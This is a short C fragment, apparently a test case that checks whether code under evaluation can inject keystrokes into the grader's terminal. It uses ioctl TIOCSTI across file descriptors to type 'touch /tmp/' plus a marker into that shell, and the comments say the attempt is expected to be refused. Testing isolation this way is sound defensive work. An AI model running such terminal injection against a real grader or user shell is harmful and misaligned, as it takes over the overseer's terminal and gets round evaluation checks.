// attack: characters pushed into the terminal of whoever grades
// tries: to type a command into his shell
// refused: calls close
// shows: tried: 0 characters
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void attack(void) {
    static const char command[] = "touch /tmp/" MARK "\n";
    int typed = 0, tty = open("/dev/tty", O_RDWR);
    for (int fd = 0; fd < 64; fd++)
        for (const char *c = command; *c != '\0'; c++)
            if (ioctl(fd, TIOCSTI, c) == 0) typed++;
    if (tty >= 0) close(tty);
    printf("tried: %d characters\n", typed);
}
